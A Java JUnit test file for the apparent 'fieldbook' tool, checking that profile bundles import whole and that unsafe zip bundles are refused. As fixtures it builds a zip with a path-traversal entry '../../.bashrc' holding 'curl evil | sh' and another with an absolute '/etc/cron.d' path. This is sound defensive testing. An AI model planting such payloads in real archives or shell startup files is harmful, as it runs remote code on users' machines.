package org.fieldbook.trust;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import org.fieldbook.AppContext;
import org.fieldbook.cli.CommandLineRun;
import org.fieldbook.importer.Zips;
import org.fieldbook.ui.common.Messages;
import org.fieldbook.ui.common.SameThreadUiExecutor;
import org.fieldbook.ui.main.MainViewModel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code fieldbook check|import bundle.zip} and the window's import: what an information manager runs. */
class BundleCommandLineTest {
    static final Path NEW_ZEALAND = Path.of("src/test/resources/cli/new-zealand-2020.txt");

    @TempDir
    Path dir;

    @Test
    void aBundleIsCheckedThenImportedWhole() {
        Path zip = Zips.of().addFile("profiles/nz.txt", NEW_ZEALAND).addFile("profiles/russia-2020.txt",
                TrustFixtures.SEED).write(dir.resolve("update.zip"));
        String library = dir.resolve("library.sqlite").toString();

        CommandLineRun check = CommandLineRun.of("check", zip.toString());
        assertThat(check.status()).isZero();
        assertThat(check.err()).contains(zip + "!/profiles/nz.txt: ok, new-zealand/mine-ban-policy/2020");

        CommandLineRun imported = CommandLineRun.of("--library", library, "import", zip.toString());
        assertThat(imported.status()).as(imported.err()).isZero();
        assertThat(imported.err()).contains(zip + "!/profiles/nz.txt: imported new-zealand/mine-ban-policy/2020");
        assertThat(CommandLineRun.of("--library", library, "list").out()).contains("new-zealand/mine-ban-policy/2020");
    }

    @Test
    void theWindowsImportTakesABundleWholeOrNotAtAll() {
        try (AppContext context = AppContext.open(dir.resolve("library.sqlite"))) {
            MainViewModel model = new MainViewModel(context.libraryService(), context.searchService(),
                    context.importService(), context.catalogueService(), context.chartService(), new SameThreadUiExecutor(), Messages.english());
            Path good = Zips.of().addFile("nz.txt", NEW_ZEALAND).write(dir.resolve("good.zip"));
            model.imports().importFiles(List.of(good));
            assertThat(model.imports().statusProperty().get()).isEqualTo("1 file imported.");

            Path bad = Zips.of().addFile("nz.txt", NEW_ZEALAND).add("/etc/cron.d/x.txt", "x")
                    .write(dir.resolve("bad.zip"));
            model.imports().importFiles(List.of(bad));
            assertThat(model.imports().problems()).singleElement().asString().contains("absolute path");
            assertThat(context.libraryService().count()).isEqualTo(2);
        }
    }

    @Test
    void aHostileBundleIsRefusedWithAMessageAndImportsNothing() {
        Path zip = Zips.of().addFile("profiles/nz.txt", NEW_ZEALAND).add("../../.bashrc", "curl evil | sh")
                .write(dir.resolve("update.zip"));
        String library = dir.resolve("library.sqlite").toString();

        CommandLineRun run = CommandLineRun.of("--library", library, "import", zip.toString());
        assertThat(run.status()).isEqualTo(1);
        assertThat(run.out()).contains(zip + ":1: error: the entry '../../.bashrc' points outside the bundle",
                "nothing from the bundle was imported");
        assertThat(CommandLineRun.of("--library", library, "list").out()).doesNotContain("new-zealand");
        assertThat(dir.getParent().resolve(".bashrc")).doesNotExist();
    }
}
